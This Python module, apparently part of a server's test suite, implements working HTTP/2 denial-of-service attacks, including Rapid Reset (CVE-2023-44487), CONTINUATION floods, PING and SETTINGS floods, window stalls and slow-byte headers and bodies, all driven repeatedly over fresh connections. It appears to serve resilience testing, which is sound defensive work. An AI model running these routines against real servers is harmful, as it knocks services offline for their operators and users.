"""The ways to abuse HTTP/2. Each abuses one connection until it is over or the server hangs up."""

from __future__ import annotations

import struct
import time
from collections.abc import Callable, Iterator

from h2.settings import SettingCodes
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.prove.hostile_http2.line import Caller, HungUp, Line, Watch, message

CONNECTIONS = 4
IDLE_THREADS = 8
CANCEL = 8  # RFC 9113, 7


def rapid_resets(line: Line, watch: Watch) -> None:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    while not watch.over:
        frames: list[Frame] = []
        for stream in line.streams(50):
            frames += [line.headers(stream), RstStreamFrame(stream, error_code=CANCEL)]
        line.frames(*frames)
        line.sip()


def resets_behind_bodies(line: Line, watch: Watch) -> None:
    """Whole requests that are reset before they can be answered."""
    while not watch.over:
        frames: list[Frame] = []
        for stream in line.streams(20):
            data = DataFrame(stream, message(line.caller.body), flags=["END_STREAM"])
            frames += [line.headers(stream), data, RstStreamFrame(stream, error_code=CANCEL)]
        line.frames(*frames)
        line.sip()


def continuation_flood(line: Line, watch: Watch) -> None:
    """A header block that does not end (CVE-2024-27316)."""
    (stream,) = line.streams(1)
    line.frames(line.headers(stream, more=True))
    piece = Encoder().encode([(f"x-{n}", "y" * 60) for n in range(10)], huffman=False)
    while not watch.over:
        line.frames(*(ContinuationFrame(stream, piece) for _ in range(20)))
        line.sip()


def window_stalls(line: Line, watch: Watch) -> None:
    """Whole requests on a connection that gives no window for answers, and never reads."""
    line.frames(SettingsFrame(0, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0}))
    for stream in line.streams(400):
        if watch.over:
            return
        data = DataFrame(stream, message(line.caller.body), flags=["END_STREAM"])
        line.frames(line.headers(stream), data)
    _wait(line, watch)


def ping_flood(line: Line, watch: Watch) -> None:
    """PINGs, each of which wants an answer."""
    burst = b"".join(PingFrame(0, struct.pack(">Q", n)).serialize() for n in range(500))
    while not watch.over:
        line.write(burst, 500)
        line.sip()


def settings_flood(line: Line, watch: Watch) -> None:
    """SETTINGS, each of which wants an answer and may change every stream's window."""
    burst = b"".join(
        SettingsFrame(0, settings={SettingCodes.INITIAL_WINDOW_SIZE: 65_535 - n % 2}).serialize()
        for n in range(200)
    )
    while not watch.over:
        line.write(burst, 200)
        line.sip()


def odd_frames(line: Line, watch: Watch) -> None:
    """Frames that mean little: PRIORITY, WINDOW_UPDATE, empty DATA, kinds that do not exist."""
    (stream,) = line.streams(1)
    line.frames(line.headers(stream))
    unknown = b"\0\0\0\xfa\0\0\0\0\0"
    while not watch.over:
        line.frames(
            *(PriorityFrame(2 * n + 1, depends_on=0, stream_weight=1) for n in range(50)),
            *(WindowUpdateFrame(0, window_increment=1) for _ in range(50)),
            *(DataFrame(stream, b"") for _ in range(50)),
        )
        line.write(unknown * 50, 50)
        line.sip()


def flood(line: Line, watch: Watch) -> None:
    """Whole requests, each with a request id of its own, a hundred at once; the answers are read."""
    _keep_asking(line, watch, 100)


def a_few_at_once(line: Line, watch: Watch) -> None:
    """The same, as many as one lender may have under way: no abuse, unless nobody answers."""
    _keep_asking(line, watch, 4)


def _keep_asking(line: Line, watch: Watch, at_once: int) -> None:
    while not watch.over:
        frames: list[Frame] = []
        for stream in line.streams(at_once):
            data = DataFrame(stream, message(line.fresh_body()), flags=["END_STREAM"])
            frames += [line.headers(stream), data]
        line.frames(*frames)
        line.await_ends(at_once, watch)


def unread_answers(line: Line, watch: Watch) -> None:
    """The same request again and again, on streams that give no window for its answer."""
    line.frames(SettingsFrame(0, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0}))
    data = message(line.caller.body)
    for stream in line.streams(250):
        if watch.over:
            return
        pieces = [data[at : at + 16_000] for at in range(0, len(data), 16_000)]
        line.frames(line.headers(stream), *(DataFrame(stream, piece) for piece in pieces[:-1]))
        line.frames(DataFrame(stream, pieces[-1], flags=["END_STREAM"]))
        line.sip()
        time.sleep(0.02)
    _wait(line, watch)


def slow_headers(line: Line, watch: Watch) -> None:
    """A header block that comes a byte at a time."""
    (stream,) = line.streams(1)
    for byte in line.headers(stream).serialize() * 1_000:
        if watch.over:
            return
        line.write(bytes([byte]), 1)
        time.sleep(0.05)


def slow_bodies(line: Line, watch: Watch) -> None:
    """As many calls as a connection takes, each with a body that comes a byte at a time."""
    streams = line.streams(250)
    line.frames(*(line.headers(stream) for stream in streams))
    for byte in message(line.caller.body):
        if watch.over:
            return
        line.frames(*(DataFrame(stream, bytes([byte])) for stream in streams))
        line.sip()
        time.sleep(0.2)
    _wait(line, watch)


def hoarded_bodies(line: Line, watch: Watch) -> None:
    """Bodies that announce a gigabyte, and come as far as they are taken."""
    streams = line.streams(30)
    line.frames(*(line.headers(stream) for stream in streams))
    start, piece = b"\0" + struct.pack(">I", 1 << 30), b"x" * 16_000
    line.frames(*(DataFrame(stream, start) for stream in streams))
    while not watch.over:
        line.frames(*(DataFrame(stream, piece) for stream in streams))
        line.sip()
        time.sleep(0.01)


def idle(line: Line, watch: Watch) -> None:
    """Nothing at all, over many connections."""
    others: list[Line] = []
    try:
        while len(others) < line.caller.idle_lines - 1 and not watch.over:
            others.append(Line(line.caller))
        watch.begun.release()
        _wait(line, watch)
    finally:
        for other in others:
            other.close()


def _wait(line: Line, watch: Watch) -> None:
    while not watch.over:
        time.sleep(0.05)


ATTACKS: dict[str, Callable[[Line, Watch], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_resets,
        resets_behind_bodies,
        continuation_flood,
        window_stalls,
        ping_flood,
        settings_flood,
        odd_frames,
        flood,
        a_few_at_once,
        unread_answers,
        slow_headers,
        slow_bodies,
        hoarded_bodies,
        idle,
    )
}


def abuse(caller: Caller, attack: str, watch: Watch) -> Iterator[int]:
    """Attack over one connection after the other; yields what was sent over each."""
    while not watch.over:
        line = None
        try:
            line = Line(caller)
            if attack != idle.__name__:
                watch.begun.release()
            ATTACKS[attack](line, watch)
        except HungUp:
            time.sleep(0.01)
        finally:
            if line is not None:
                line.close()
                yield line.sent
